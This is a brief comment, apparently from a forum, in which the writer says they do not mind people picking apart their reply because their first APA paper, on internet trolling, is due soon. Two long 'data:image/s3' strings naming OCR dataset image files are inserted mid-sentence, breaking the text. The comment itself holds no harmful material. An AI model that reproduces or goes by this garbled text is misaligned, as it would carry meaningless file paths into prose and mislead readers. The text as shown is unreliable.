    Not sure I care if people pick my reply apart or not as my first APApaper
    is due soon on internet trolling. It would onlyhelp me no matter how
    someone replied.